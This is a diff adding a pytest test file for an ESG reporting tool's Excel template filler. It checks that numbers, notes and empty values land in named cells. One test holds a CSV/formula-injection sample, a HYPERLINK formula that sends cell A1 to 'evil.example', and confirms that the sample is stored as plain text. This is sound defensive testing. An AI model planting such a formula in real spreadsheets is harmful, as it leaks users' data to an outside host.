@@ -1,0 +1,99 @@
+"""Filling a template through its defined names: numbers as numbers, text kept inert, notes beside figures."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.cell.cell import Cell
+
+from esgflow.catalog import Catalog
+from esgflow.entities import EntityRegistry
+from esgflow.periods import parse_period
+from esgflow.workbooks.fill import fill_template
+from esgflow.workbooks.returns import read_return
+from esgflow.workbooks.template import TemplateRequest, write_template
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog, registry: EntityRegistry) -> Path:
+    path = tmp_path_factory.mktemp("fill") / "SAMI_2025.xlsx"
+    write_template(path, TemplateRequest(registry["SAMI"], parse_period("2025"), {}), catalog)
+    return path
+
+
+def _cell(path: Path, name: str) -> Cell:
+    wb = load_workbook(path)
+    ((sheet, coord),) = wb.defined_names[name].destinations
+    return wb[sheet][coord.replace("$", "")]
+
+
+def test_values_go_into_the_cells_their_names_point_at(template: Path, tmp_path: Path) -> None:
+    out = fill_template(
+        template,
+        tmp_path / "out" / "SAMI_2025.xlsx",
+        {
+            "env_diesel": Decimal("12327323.56"),
+            "soc_employees_total": 123,
+            "env_electricity": 0.5,
+            "env_gasoline": "12,345",
+        },
+    )
+    assert out == tmp_path / "out" / "SAMI_2025.xlsx" and out.is_file()
+    diesel = _cell(out, "env_diesel")
+    assert diesel.value == 12327323.56 and diesel.data_type == "n"
+    assert _cell(out, "soc_employees_total").value == 123
+    assert _cell(out, "env_electricity").value == 0.5
+    assert (_cell(out, "env_gasoline").value, _cell(out, "env_gasoline").data_type) == ("12,345", "s")
+    assert _cell(out, "env_natural_gas").value is None  # not named: left as it was
+
+
+def test_figures_read_back_exactly(template: Path, tmp_path: Path, catalog: Catalog) -> None:
+    values = {"env_diesel": Decimal("12327323.56"), "env_gasoline": Decimal("0.1"), "soc_employees_total": 10853}
+    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", values)
+    reported = {r.code: r.value for r in read_return(out.read_bytes(), out.name, catalog).reported}
+    assert {code: reported[code] for code in values} == {code: Decimal(v) for code, v in values.items()}
+
+
+def test_text_that_looks_like_a_formula_stays_text(template: Path, tmp_path: Path) -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": attack}, {"env_gasoline": "@SUM(A1:A9)"})
+    for name, text in (("env_diesel", attack), ("env_gasoline__note", "@SUM(A1:A9)")):
+        cell = _cell(out, name)
+        assert (cell.value, cell.data_type) == (text, "s"), name
+
+
+def test_notes_go_into_the_note_cells(template: Path, tmp_path: Path) -> None:
+    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": 5}, {"env_diesel": "新增运输车辆"})
+    assert _cell(out, "env_diesel__note").value == "新增运输车辆"
+    diesel_row = _cell(out, "env_diesel").row
+    assert _cell(out, "env_diesel__note").row == diesel_row
+
+
+def test_none_empties_a_cell(template: Path, tmp_path: Path) -> None:
+    first = fill_template(template, tmp_path / "a" / "SAMI_2025.xlsx", {"env_diesel": 5})
+    again = fill_template(first, tmp_path / "b" / "SAMI_2025.xlsx", {"env_diesel": None})
+    assert _cell(first, "env_diesel").value == 5 and _cell(again, "env_diesel").value is None
+
+
+@pytest.mark.parametrize(
+    ("values", "notes", "missing"),
+    [({"env_unknown": 1}, None, "env_unknown"), ({"env_diesel": 1}, {"env_unknown": "x"}, "env_unknown__note")],
+)
+def test_a_name_the_template_lacks_is_refused_and_nothing_written(
+    template: Path, tmp_path: Path, values: dict[str, int], notes: dict[str, str] | None, missing: str
+) -> None:
+    before = template.read_bytes()
+    with pytest.raises(KeyError, match=f"SAMI_2025.xlsx has no defined name {missing}"):
+        fill_template(template, tmp_path / "out" / "SAMI_2025.xlsx", values, notes)
+    assert not (tmp_path / "out").exists()
+    assert template.read_bytes() == before
+
+
+def test_the_template_itself_is_left_as_it_was(template: Path, tmp_path: Path) -> None:
+    before = template.read_bytes()
+    fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": 5}, {"env_diesel": "note"})
+    assert template.read_bytes() == before
+    assert _cell(template, "env_diesel").value is None
